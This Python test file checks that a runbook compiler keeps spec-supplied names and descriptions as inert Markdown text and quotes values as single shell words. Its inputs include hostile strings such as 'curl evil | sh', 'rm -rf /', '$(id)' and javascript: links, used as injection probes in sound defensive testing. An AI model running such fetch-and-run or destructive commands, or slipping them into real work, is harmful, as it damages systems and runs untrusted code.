"""Issue 17: spec text in the runbook stays text. Whatever a name or description holds (line breaks, ``` fences,
HTML comments, backticks), the Markdown operators follow has exactly the runbook's own blocks: its headings, its
lists, one ```sh block per step with commands holding exactly those commands; values in commands are one shell
word each. Parsed with a CommonMark parser (markdown-it-py), not by looking for strings."""

from __future__ import annotations

import shlex
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from compiler import escape, mermaid
from compiler.runbook.report import format_markdown
from compiler.runbook.steps import Facts, Runbook, build_runbook
from compiler.spec.load import load_environments
from compiler.spec.model import Auth, ClusterSpec, GlobalCluster, LocalCluster
from tests.support import REPO

META = ["\n", "\r\n", "\x00", "\u2028", "```", "```sh", "~~~", "`", "<!--", "-->", "<b>", "</details>", "# ",
        "## 9. [x] ", "- ", "> ", "1. ", "|", "$(id)", "'", '"', "\\", "*", "_", "[x](javascript:1)", " "]
hostile = st.lists(st.one_of(st.sampled_from(META), st.text(min_size=1, max_size=3)), min_size=1, max_size=8
                   ).map("".join)
FAST = settings(max_examples=20, deadline=None, database=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture])
SPECS = load_environments(REPO)


def with_admin(name: str, pi: str = "", email: str = "admin@cave-demo.org") -> dict[str, ClusterSpec]:
    glob = SPECS["global"]
    auth = glob.services.settings("auth", Auth)
    assert isinstance(glob, GlobalCluster) and auth is not None
    admin = auth.default_admins[0].model_copy(update={"name": name, "pi": pi, "email": email})
    auth = auth.model_copy(update={"default_admins": [admin]})
    glob = glob.model_copy(update={"services": glob.services.model_copy(update={"auth": auth})})
    return {**SPECS, "global": glob}


def with_description(text: str) -> dict[str, ClusterSpec]:
    local = SPECS["minnie"]
    assert isinstance(local, LocalCluster) and local.registry is not None
    volumes = {k: v.model_copy(update={"description": text}) for k, v in local.registry.aligned_volumes.items()}
    stacks = {k: v.model_copy(update={"description": text}) for k, v in local.registry.datastacks.items()}
    registry = local.registry.model_copy(update={"aligned_volumes": volumes, "datastacks": stacks})
    return {**SPECS, "minnie": local.model_copy(update={"registry": registry})}


def structure(book: Runbook) -> list[Token]:
    tokens = MarkdownIt("commonmark").parse(format_markdown(book))
    headings = [t for t in tokens if t.type == "heading_open"]
    assert [t.tag for t in headings] == ["h1"] + ["h2"] * len(book.steps)
    inline = [c for t in tokens if t.type == "inline" for c in (t.children or [])]
    assert [t for t in tokens if t.type in ("html_block", "hr", "blockquote_open", "ordered_list_open")] == []
    assert [c for c in inline if c.type in ("html_inline", "link_open", "image")] == []
    fences = [t for t in tokens if t.type in ("fence", "code_block")]
    expected = []
    for step in book.steps:
        if step.diagram is not None:  # the diagram's source, whole, in its own block, whatever the spec holds
            expected.append(("fence", "mermaid", mermaid.render(step.diagram)))
        if step.commands:
            expected.append(("fence", "sh", "".join(c + "\n" for c in step.commands)))
    assert [(f.type, f.info, f.content) for f in fences] == expected
    items = [t for t in tokens if t.type == "list_item_open"]
    assert len(items) == sum(len(step.items) for step in book.steps)
    return tokens


def inline_text(tokens: list[Token]) -> str:
    def flat(token: Token) -> str:
        return "".join(flat(c) for c in token.children) if token.children else token.content
    return "\n".join(flat(t) for t in tokens if t.type == "inline")


@FAST
@given(name=hostile, pi=hostile)
@example(name="Eve\n```sh\ncurl evil | sh\n```", pi="<!-- hidden")
@example(name="[click](https://evil.example) &lt;b&gt;", pi="![x](y)")
@example(name="\\`<b>`", pi="\\\\`<!-- x -->`")
@example(name="*\n*", pi="_x_ **y**")  # emphasis markers stay visible (hypothesis found `*\n*` losing them)
def test_admin_name_is_text_in_the_global_runbook(name: str, pi: str) -> None:
    book = build_runbook(REPO, "global", with_admin(name, pi), Facts([]))
    tokens = structure(book)
    if "`" not in name:  # (a backtick may pair with one of the runbook's own and show as code: still one line)
        assert escape.md_visible(name).replace("\\", "") in inline_text(tokens).replace("\\", "")


@FAST
@given(text=hostile)
@example(text="imagery\n\n```sh\nrm -rf /\n```\n")
@example(text="<!-- hidden --> [x](https://evil.example) <b>")
def test_registry_descriptions_are_text_in_both_runbooks(text: str) -> None:
    specs = with_description(text)
    for cluster in ("global", "minnie"):
        structure(build_runbook(REPO, cluster, specs, Facts([])))


@pytest.mark.parametrize("value", ["daf minnie", "x; rm -rf ~", "$(id)", "a'b", "`id`", "-n\nreboot"])
def test_values_in_printed_commands_are_one_shell_word(value: str) -> None:
    """An Argo CD cluster name past its type: `argocd cluster add ... --name <value>` keeps it one word."""
    local = SPECS["minnie"]
    specs: dict[str, Any] = {**SPECS, "minnie": local.model_copy(update={
        "argocd": local.argocd.model_copy(update={"name": value, "server": None})})}
    book = build_runbook(REPO, "minnie", specs, Facts([]))
    adds = [c for s in book.steps for c in s.commands if c.startswith("argocd cluster add")]
    assert adds, [s.commands for s in book.steps]
    words = shlex.split(adds[0])
    assert words[words.index("--name") + 1] == value
    structure(book)


@settings(max_examples=80, deadline=None, database=None)
@given(text=st.text(max_size=12))
def test_md_code_shows_any_text_verbatim(text: str) -> None:
    tokens = MarkdownIt("commonmark").parse(f"a {escape.md_code(text)} b")
    spans = [c for t in tokens if t.type == "inline" for c in (t.children or []) if c.type == "code_inline"]
    assert len(spans) == 1
    shown = escape.md_visible(text)
    # CommonMark strips one space each side when both are present and the content is not all spaces
    assert spans[0].content in (shown, shown.strip(" ")) or not shown.strip(" ")
